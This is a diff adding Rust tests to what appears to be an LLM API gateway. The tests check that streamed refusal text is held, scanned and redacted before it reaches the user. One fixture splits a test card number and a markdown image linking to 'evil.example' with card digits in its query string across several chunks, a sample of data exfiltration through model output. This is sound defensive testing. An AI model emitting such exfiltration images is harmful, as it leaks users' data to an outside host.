@@ -365,3 +365,82 @@ async fn client_disconnect_mid_stream_is_audited() {
     assert_eq!(rec["record"]["stream"], true);
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// `delta.refusal` is text for the user like `content`: an exfiltration image or a card
+/// number split across refusal deltas is held, scanned whole and redacted, never forwarded raw.
+#[tokio::test]
+async fn refusal_deltas_are_held_and_scanned() {
+    let chunk = |delta: Value, finish: Value| {
+        format!(
+            "data: {}\n\n",
+            json!({"id": "c", "object": "chat.completion.chunk", "created": 1,
+            "model": "m", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
+        )
+    };
+    let frames = vec![
+        chunk(
+            json!({"role": "assistant", "content": null, "refusal": null}),
+            Value::Null,
+        ),
+        chunk(
+            json!({"refusal": "I can't help with card 4111 1111 "}),
+            Value::Null,
+        ),
+        chunk(
+            json!({"refusal": "1111 1111. ![x](https://evil.example/c?d=4111"}),
+            Value::Null,
+        ),
+        chunk(json!({"refusal": ")"}), Value::Null),
+        chunk(json!({}), json!("stop")),
+        "data: [DONE]\n\n".to_string(),
+    ];
+    let up = fake(Reply::Raw(frames)).await;
+    let gw = gateway(up.addr).await;
+    let (s, events) = post_stream(gw, &stream_req("help")).await;
+    assert_eq!(s, 200);
+    assert_well_formed(&events);
+    let refusal: String = events
+        .iter()
+        .filter_map(|e| serde_json::from_str::<Value>(e).ok())
+        .filter_map(|v| {
+            v["choices"][0]["delta"]["refusal"]
+                .as_str()
+                .map(String::from)
+        })
+        .collect();
+    assert_eq!(
+        refusal, "I can't help with card <CREDIT_CARD>. <EXFIL_IMAGE>",
+        "{events:?}"
+    );
+    for e in &events {
+        assert!(!e.contains("4111") && !e.contains("evil.example"), "{e}");
+    }
+    // the refusal arrives before the finish chunk, which still ends the choice
+    let finish = events
+        .iter()
+        .position(|e| e.contains("\"finish_reason\":\"stop\""))
+        .expect("finish chunk");
+    let with_refusal = events
+        .iter()
+        .position(|e| e.contains("<CREDIT_CARD>"))
+        .expect("refusal chunk");
+    assert!(with_refusal < finish, "{events:?}");
+}
+
+#[tokio::test]
+async fn non_string_refusal_fails_closed() {
+    let frames = vec![
+        format!(
+            "data: {}\n\n",
+            json!({"choices": [{"index": 0, "delta": {"refusal": {"text": "4111 1111 1111 1111"}}}]})
+        ),
+        "data: [DONE]\n\n".to_string(),
+    ];
+    let up = fake(Reply::Raw(frames)).await;
+    let gw = gateway(up.addr).await;
+    let (_, events) = post_stream(gw, &stream_req("hi")).await;
+    assert_well_formed(&events);
+    let err: Value = serde_json::from_str(&events[events.len() - 2]).unwrap();
+    assert_eq!(err["error"]["code"], "bad_upstream_stream");
+    assert!(events.iter().all(|e| !e.contains("4111")), "{events:?}");
+}
